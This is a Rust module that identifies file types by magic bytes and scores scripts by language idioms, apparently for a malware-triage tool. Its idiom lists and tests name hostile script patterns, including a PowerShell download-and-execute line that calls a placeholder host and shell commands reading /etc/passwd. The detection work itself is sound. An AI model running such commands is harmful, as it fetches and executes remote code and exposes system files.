//! File type from content.
//!
//! Binary formats are recognised by magic bytes and then confirmed with goblin (a stray `MZ` is
//! not a PE). Scripts have no magic, so text is scored against per-language idioms: each idiom
//! found adds its weight once, the best language wins if it scores at least `MIN_SCORE`. The
//! file name never overrides content; it only breaks exact ties between script languages. Only
//! the first [`SNIFF`] bytes of text are scored, so detection costs the same for any file size.

use std::io::Cursor;
use std::sync::LazyLock;

use regex::RegexSet;

use super::guarded;
use super::text::{decode_text, SNIFF};
use crate::report::FileType;

/// Minimum idiom score for text to count as a script.
const MIN_SCORE: u32 = 3;

/// Detects the file type of `data`; `name` only breaks ties between script languages.
pub fn detect(data: &[u8], name: &str) -> FileType {
    if data.starts_with(b"MZ") {
        let is_pe = guarded(|| goblin::pe::header::Header::parse(data).is_ok()).unwrap_or(false);
        return if is_pe || pe_signature(data) { FileType::Pe } else { FileType::Unknown };
    }
    if data.starts_with(b"\x7FELF") {
        let ok = guarded(|| goblin::elf::Elf::parse_header(data).is_ok()).unwrap_or(false);
        return if ok { FileType::Elf } else { FileType::Unknown };
    }
    if is_macho(data) {
        return FileType::MachO;
    }
    if data.starts_with(b"PK\x03\x04") || data.starts_with(b"PK\x05\x06") {
        return if is_ooxml(data) { FileType::Office } else { FileType::Zip };
    }
    if data.starts_with(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]) {
        return FileType::Office;
    }
    if find(&data[..data.len().min(1024)], b"%PDF-").is_some() {
        return FileType::Pdf;
    }
    match decode_text(data, SNIFF) {
        Some(text) => script_type(&text, name),
        None => FileType::Unknown,
    }
}

/// The `PE\0\0` signature where `e_lfanew` points. goblin rejects headers that overlap the DOS
/// header (`e_lfanew <= 0x40`), a trick of hand-made tiny PEs that Windows still loads; such files
/// are PEs (and will be reported malformed), not unknown data.
fn pe_signature(data: &[u8]) -> bool {
    let Some(e) = data.get(0x3C..0x40) else { return false };
    let at = u32::from_le_bytes([e[0], e[1], e[2], e[3]]) as usize;
    at >= 4 && data.get(at..at.saturating_add(4)) == Some(&b"PE\0\0"[..])
}

fn is_macho(data: &[u8]) -> bool {
    let Some(magic) = data.get(..4) else {
        return false;
    };
    let thin: [[u8; 4]; 4] = [
        [0xFE, 0xED, 0xFA, 0xCE],
        [0xFE, 0xED, 0xFA, 0xCF],
        [0xCE, 0xFA, 0xED, 0xFE],
        [0xCF, 0xFA, 0xED, 0xFE],
    ];
    let fat = magic == [0xCA, 0xFE, 0xBA, 0xBE];
    if !fat && !thin.iter().any(|m| m == magic) {
        return false;
    }
    if fat {
        // Java class files share CAFEBABE; their "arch count" is a class-file version >= 45.
        let narch = data.get(4..8).map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]));
        if !matches!(narch, Some(1..=30)) {
            return false;
        }
    }
    guarded(|| goblin::mach::Mach::parse(data).is_ok()).unwrap_or(false)
}

/// A ZIP that is an Office Open XML document.
fn is_ooxml(data: &[u8]) -> bool {
    let office_name = |n: &str| {
        n == "[Content_Types].xml"
            || n.starts_with("word/")
            || n.starts_with("xl/")
            || n.starts_with("ppt/")
    };
    let listed = guarded(|| {
        let archive = zip::ZipArchive::new(Cursor::new(data)).ok()?;
        let found = archive.file_names().take(10_000).any(office_name);
        Some(found)
    })
    .flatten();
    match listed {
        Some(found) => found,
        // Broken central directory: fall back to the local header names near the start.
        None => {
            let head = &data[..data.len().min(SNIFF)];
            [&b"[Content_Types].xml"[..], b"word/", b"xl/", b"ppt/"]
                .iter()
                .any(|n| find(head, n).is_some())
        }
    }
}

pub(crate) fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
    if needle.is_empty() || hay.len() < needle.len() {
        return None;
    }
    hay.windows(needle.len()).position(|w| w == needle)
}

/// Idioms per language: (pattern, weight).
const LANGS: [(FileType, &[(&str, u32)]); 6] = [
    (
        FileType::PowerShell,
        &[
            (r"(?i)\b(?:iex|invoke-expression)\b", 3),
            (r"(?i)\bnew-object\b", 2),
            (r"(?i)-encodedcommand\b|\s-e(?:nc?)?\s+[A-Za-z0-9+/=]{16,}", 3),
            (r"(?i)\$env:", 3),
            (r"(?i)\[[a-z][a-z0-9.]*\]::", 3),
            (
                concat!(
                    r"\b(?:Get|Set|New|Invoke|Start|Stop|Remove|Add|Write|Out|Select|Where|",
                    r"ForEach|Import|Test|Read)-[A-Z][A-Za-z]+",
                ),
                2,
            ),
            (r"(?i)\s-(?:executionpolicy|windowstyle|noprofile|nop)\b", 2),
            (r"\$[A-Za-z_][A-Za-z0-9_]*\s*=", 1),
            (r"(?i)\bparam\s*\(", 2),
            (r"(?i)\$(?:true|false|null|_|psscriptroot|psversiontable)\b", 2),
            (r"(?i)\|\s*(?:out-null|foreach-object|where-object|%\s*\{|\?\s*\{)", 2),
            (r"(?i)\bpowershell(?:\.exe)?\b", 1),
        ],
    ),
    (
        FileType::Batch,
        &[
            (r"(?im)^\s*@?echo\s+off\b", 4),
            (r"(?im)^\s*set\s+/[ap]\s", 3),
            (r"(?i)\bgoto\s+:?[a-z_]\w*", 2),
            (r"(?m)^:[A-Za-z_]\w*\s*$", 2),
            (r"%~[dpnxfs]+[0-9]", 3),
            (r"%[A-Za-z_]\w*%", 2),
            (r"(?im)^\s*(?:rem\s|::)", 2),
            (r"(?im)^\s*(?:setlocal|endlocal)\b", 3),
            (r"(?i)\bif\s+(?:not\s+)?(?:exist|errorlevel|defined)\b", 3),
            (r"%%[a-zA-Z]\b", 3),
            (r"(?i)\bcall\s+:", 3),
            (r"(?i)\bcmd(?:\.exe)?\s+/[ck]\b", 1),
        ],
    ),
    (
        FileType::VbScript,
        &[
            (r"(?im)^\s*dim\s+\w+", 3),
            (r"(?i)\bcreateobject\s*\(", 2),
            (r"(?im)^\s*set\s+\w+\s*=\s*(?:createobject|getobject|wscript|nothing|new\b)", 3),
            (r"(?im)^\s*end\s+(?:sub|function|if|with|select)\b", 3),
            (r"(?im)^\s*on\s+error\s+resume\s+next\b", 4),
            (r"(?i)\bmsgbox\b", 2),
            (r"(?i)\bvbcrlf\b", 3),
            (r"(?i)\bchrw?\s*\(\s*\d+\s*\)\s*&", 3),
            (r#"(?i)\bexecute(?:global)?\s*\(?\s*""#, 2),
            (r"(?im)\bthen\s*$", 1),
            (r"(?im)^\s*next\s*$", 2),
        ],
    ),
    (
        FileType::JavaScript,
        &[
            (r"\bfunction\s*[\w$]*\s*\([^)]*\)\s*\{", 3),
            (r"\b(?:var|let|const)\s+[A-Za-z_$][\w$]*\s*=", 3),
            (r"\)\s*=>\s*[{(\w]", 2),
            (r"\b(?:document|window|navigator)\.\w+", 3),
            (r"\bconsole\.log\s*\(", 3),
            (r"\bnew\s+ActiveXObject\s*\(", 4),
            (r"\bString\.fromCharCode\b", 3),
            (r"\beval\s*\(", 1),
            (r#"\brequire\s*\(\s*['"]"#, 3),
            (r"\.prototype\.", 3),
            (r"===|!==", 2),
            (r"\bWScript\.CreateObject\b", 2),
            (r"\b(?:unescape|decodeURIComponent|atob)\s*\(", 2),
            (r"(?m);\s*$", 1),
        ],
    ),
    (
        FileType::Python,
        &[
            (r"(?m)^\s*import\s+[A-Za-z_][\w.]*(?:\s*,\s*[\w.]+)*\s*$", 3),
            (r"(?m)^\s*from\s+[\w.]+\s+import\s+", 4),
            (r"(?m)^\s*def\s+\w+\s*\([^)]*\)\s*(?:->\s*[^:\n]+)?:", 4),
            (r#"\bif\s+__name__\s*==\s*['"]__main__['"]"#, 5),
            (r"(?m)^\s*(?:elif|except|finally|with)\b[^\n]*:\s*$", 3),
            (r"\bself\.\w+", 2),
            (r"\bprint\s*\(", 1),
            (r"\b(?:os\.system|subprocess\.\w+|base64\.b64decode|socket\.socket)\s*\(", 3),
            (r"(?m)^\s*class\s+\w+(?:\([^)]*\))?\s*:\s*$", 3),
            (r"\b(?:None|True|False)\b", 1),
        ],
    ),
    (
        FileType::Shell,
        &[
            (r"(?m)^\s*fi\s*$", 3),
            (r"(?m)^\s*done\b", 2),
            (r"\[\[?\s+-[a-zA-Z]\s", 3),
            (r"(?m)^\s*export\s+\w+=", 3),
            (r"\$\{[A-Za-z_]\w*[}:#%]", 2),
            (r"\$\(\s*[a-z]", 1),
            (r"\b(?:chmod|chown)\s+[+\-0-9ugoa]", 3),
            (r"/dev/null", 3),
            (r"(?m)^\s*(?:wget|curl)\s+", 2),
            (r"\|\s*(?:ba|z|da)?sh\b", 3),
            (r"/bin/(?:ba|z|da|k)?sh\b", 2),
            (r"(?m)^\s*\w+=(?:\x22|'|\$|\w)", 1),
            (r";\s*(?:then|do)\b", 3),
            (r"(?m)^\s*case\s+\S+\s+in\s*$", 3),
            (r"\b(?:nohup|sudo)\s", 2),
        ],
    ),
];

static SETS: LazyLock<Vec<(FileType, RegexSet, Vec<u32>)>> = LazyLock::new(|| {
    LANGS
        .iter()
        .filter_map(|(ty, idioms)| {
            let set =
                RegexSet::new(idioms.iter().map(|(p, _)| super::text::ascii_boundaries(p))).ok()?;
            Some((*ty, set, idioms.iter().map(|(_, w)| *w).collect()))
        })
        .collect()
});

/// Scores `text` against every language; returns the best script type or `Unknown`.
pub fn script_type(text: &str, name: &str) -> FileType {
    if let Some(ty) = shebang(text) {
        return ty;
    }
    let sample = super::text::clip(text, SNIFF);
    let scores: Vec<(FileType, u32)> = SETS
        .iter()
        .map(|(ty, set, weights)| {
            let matched = set.matches(sample);
            let score: u32 = matched.iter().map(|i| weights.get(i).copied().unwrap_or(0)).sum();
            (*ty, score)
        })
        .collect();
    let best = scores.iter().map(|(_, s)| *s).max().unwrap_or(0);
    if best < MIN_SCORE {
        return FileType::Unknown;
    }
    let tied: Vec<FileType> = scores.iter().filter(|(_, s)| *s == best).map(|(t, _)| *t).collect();
    let by_name = type_from_extension(name);
    match by_name {
        Some(t) if tied.contains(&t) => t,
        _ => tied.first().copied().unwrap_or(FileType::Unknown),
    }
}

fn shebang(text: &str) -> Option<FileType> {
    let first = text.strip_prefix("#!")?.lines().next()?.to_ascii_lowercase();
    let interp =
        first.split_whitespace().flat_map(|w| w.rsplit('/').next()).find(|w| *w != "env")?;
    let interp = interp.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match interp {
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "busybox" => Some(FileType::Shell),
        "python" => Some(FileType::Python),
        "node" | "nodejs" | "deno" => Some(FileType::JavaScript),
        "pwsh" | "powershell" => Some(FileType::PowerShell),
        // Perl, Ruby, PHP...: a script, but of no kind we analyse; idioms would only mislead.
        _ => Some(FileType::Unknown),
    }
}

fn type_from_extension(name: &str) -> Option<FileType> {
    let ext = name.rsplit_once('.')?.1.to_ascii_lowercase();
    Some(match ext.as_str() {
        "js" | "jse" | "mjs" | "cjs" => FileType::JavaScript,
        "ps1" | "psm1" | "psd1" => FileType::PowerShell,
        "vbs" | "vbe" | "vba" => FileType::VbScript,
        "sh" | "bash" | "zsh" => FileType::Shell,
        "py" | "pyw" => FileType::Python,
        "bat" | "cmd" => FileType::Batch,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_by_content() {
        let cases: [(&str, FileType); 9] = [
            ("#!/bin/bash\necho hi\n", FileType::Shell),
            ("#!/usr/bin/env python3\nprint(1)\n", FileType::Python),
            ("#!/usr/bin/perl\nmy $x = 1; IEX;\n", FileType::Unknown),
            ("@echo off\r\nset /a x=1\r\ngoto :end\r\n:end\r\n", FileType::Batch),
            (
                "$env:TEMP\nIEX (New-Object Net.WebClient).DownloadString('http://x')\n",
                FileType::PowerShell,
            ),
            (
                "Dim s\nSet o = CreateObject(\"WScript.Shell\")\nOn Error Resume Next\n",
                FileType::VbScript,
            ),
            ("var a = 1;\nfunction f(x) { return x === a; }\n", FileType::JavaScript),
            ("import os\n\ndef main():\n    os.system('id')\n", FileType::Python),
            ("if [ -f /etc/passwd ]; then\n  cat /etc/passwd > /dev/null\nfi\n", FileType::Shell),
        ];
        for (text, want) in cases {
            assert_eq!(detect(text.as_bytes(), ""), want, "{text:?}");
        }
    }

    #[test]
    fn name_breaks_only_ties() {
        // Ambiguous: one weak idiom each for several languages -> below threshold regardless.
        assert_eq!(detect(b"hello world\n", "a.ps1"), FileType::Unknown);
        // Content wins over a misleading extension.
        assert_eq!(detect(b"@echo off\r\nset /a x=1\r\n", "x.py"), FileType::Batch);
        // An exact tie (PowerShell `IEX` = 3, JavaScript `===` + `;` = 3) is broken by the name.
        let tie = "IEX x === y;\n";
        assert_eq!(script_type(tie, "t.js"), FileType::JavaScript);
        assert_eq!(script_type(tie, "t.ps1"), FileType::PowerShell);
        assert_eq!(script_type(tie, ""), FileType::PowerShell);
    }

    #[test]
    fn binary_magics() {
        assert_eq!(detect(b"%PDF-1.7\n", ""), FileType::Pdf);
        assert_eq!(
            detect(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0], ""),
            FileType::Office
        );
        assert_eq!(detect(b"MZ not really a pe", ""), FileType::Unknown);
        let mut tiny = vec![0u8; 0x60];
        tiny[..2].copy_from_slice(b"MZ");
        tiny[0x3C] = 0x0C;
        tiny[0x0C..0x10].copy_from_slice(b"PE\0\0");
        assert_eq!(detect(&tiny, ""), FileType::Pe);
        assert_eq!(detect(b"\x7FELF junk", ""), FileType::Unknown);
        assert_eq!(detect(b"\xCA\xFE\xBA\xBE\x00\x00\x00\x34", ""), FileType::Unknown);
        assert_eq!(detect(b"", ""), FileType::Unknown);
    }

    #[test]
    fn system_elf_is_elf() {
        if let Ok(bytes) = std::fs::read("/bin/ls") {
            assert_eq!(detect(&bytes, "ls"), FileType::Elf);
        }
    }
}
